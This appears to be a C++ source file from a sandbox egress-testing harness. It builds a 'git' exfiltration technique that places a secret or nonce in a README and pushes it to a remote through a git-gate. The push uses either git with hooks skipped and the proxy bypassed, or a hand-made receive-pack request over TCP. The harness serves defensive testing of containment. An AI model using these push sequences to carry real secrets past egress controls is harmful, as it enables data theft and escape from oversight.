// The git technique: a push of a new branch, whose name is the nonce, so that the rejected ones and the clean ones can
// be told apart wherever they arrive. By a real git in the bottle, or by the prober, which carries a push that is made
// here: then the history can be any, and the push costs no process.
#include "attacks/carrier.h"
#include "attacks/git_vectors.h"
#include "harness/digest.h"

namespace bottle {
namespace {

constexpr int kPushTime = 8000;
constexpr int kGitPort = 9418;
constexpr std::string_view kScheme = "git://";

struct GitUrl {
  Endpoint dial = {};
  std::string host = {};  // as it is written there
  std::string path = {};
};

GitUrl parse_url(const std::string& url) {
  const std::string rest = url.substr(kScheme.size());
  const std::size_t slash = std::min(rest.find('/'), rest.size());
  GitUrl result{.host = rest.substr(0, slash), .path = rest.substr(slash)};
  const bool has_port = result.host.find(':', result.host.find(']') + 1) != std::string::npos;  // npos + 1 is 0
  result.dial = parse_endpoint(has_port ? result.host : result.host + ":" + std::to_string(kGitPort));
  return result;
}

void push_by_git(const std::string& remote, const std::string& secret, Attempt& attempt) {
  using Argv = std::vector<std::string>;
  // --no-verify: who wants to get something out asks no hook of his own.
  const std::vector<Argv> steps = {{"git", "init", "-q", "-b", attempt.nonce, "."},
                                   {"git", "add", "README.md"},
                                   {"git", "commit", "-q", "-m", "Notes"},
                                   {"git", "push", "--no-verify", remote, "HEAD:refs/heads/" + attempt.nonce}};
  attempt.action = {{"action", "client"},
                    {"files", {{"README.md", to_base64(readme(attempt.nonce, secret))}}},
                    {"steps", steps},
                    {"environment",
                     {{"HOME", "{dir}"},
                      {"GIT_CONFIG_NOSYSTEM", "1"},
                      {"GIT_CONFIG_GLOBAL", "/dev/null"},
                      {"GIT_TEMPLATE_DIR", ""},  // neither sample hooks nor housekeeping: they only take time
                      {"GIT_CONFIG_COUNT", "2"},
                      {"GIT_CONFIG_KEY_0", "maintenance.auto"},
                      {"GIT_CONFIG_VALUE_0", "false"},
                      {"GIT_CONFIG_KEY_1", "http.proxy"},  // a gate that speaks HTTP is no host of the web
                      {"GIT_CONFIG_VALUE_1", ""},
                      {"GIT_TERMINAL_PROMPT", "0"},
                      {"GIT_AUTHOR_NAME", "agent"},
                      {"GIT_COMMITTER_NAME", "agent"},
                      {"GIT_AUTHOR_EMAIL", "agent@bottle.test"},
                      {"GIT_COMMITTER_EMAIL", "agent@bottle.test"}}},
                    {"timeout_ms", kPushTime}};
  for (const Argv& argv : steps) {
    std::string joined;
    for (const std::string& argument : argv) joined += (joined.empty() ? "" : std::string(1, '\0')) + argument;
    attempt.sent.push_back(segment("argv", joined));
  }
}

void push_by_prober(const std::string& remote, const std::string& message, Attempt& attempt) {
  const GitUrl url = parse_url(remote);
  const std::string request = pkt_line("git-receive-pack " + url.path + '\0' + "host=" + url.host + '\0');
  // The list of refs ends with a flush behind a line's end. To say all at once would be to have said it to a server
  // that refuses everything.
  attempt.action = {{"action", "tcp"},
                    {"address", url.dial.address},
                    {"port", url.dial.port},
                    {"opening", to_base64(request)},
                    {"until", to_base64("\n" + std::string(kFlushPacket))},
                    {"send", to_base64(message)},
                    {"to_end", true},
                    {"read_ms", kPushTime},
                    {"timeout_ms", kPushTime}};
  attempt.sent = {segment("opening", request), segment("data", message)};
}

Attempt build(const Choice& choice, const Brief& brief) {
  Attempt attempt{.nonce = brief.nonce};
  if (brief.route.git_remote.empty()) {
    attempt.not_applicable = "this bundle has no git-gate";
    return attempt;
  }
  const std::string client = chosen(choice, "client", "git");
  if (client == "prober" && !brief.route.git_remote.starts_with(kScheme)) {
    attempt.not_applicable = "the prober pushes over git:// only";
    return attempt;
  }
  // A control is a clean push, whatever the first variant of its channel is.
  const std::string vector = is_control(brief.arm) ? "readme-link" : chosen(choice, "vector", "readme-link");
  const std::string secret = carried_secret(choice, brief);
  if (client == "prober") {
    push_by_prober(brief.route.git_remote, push_message(make_push(vector, brief.nonce, secret)), attempt);
  } else if (chosen(choice, "vector", "readme-link") == "readme-link") {
    push_by_git(brief.route.git_remote, secret, attempt);
  } else {
    attempt.not_applicable = "this vector is pushed by the prober only";
    return attempt;
  }
  attempt.action["timeout_ms"] = kPushTime;
  attempt.channel = "push through git-gate, " + client;
  attempt.delivered_at = "git";
  attempt.bare_at = {"git"};
  attempt.secret = carried_kind(choice);
  attempt.leak = attempt.secret.empty() ? Attempt::Leak::nonce : Attempt::Leak::secret;
  attempt.wall = Layer::git_gate;
  attempt.upstream_must_not_be_dialled = true;
  if (brief.arm == Arm::bare) attempt.place = Place::outside;
  return attempt;
}

}  // namespace

Technique make_technique_git() {
  return {.name = "git",
          .parameters = {{"vector", kGitVectors},
                         {"client", {"git", "prober"}},
                         {"secret", kSecretKinds},
                         {"encoding", kEncodings}},
          .build = build};
}

}  // namespace bottle
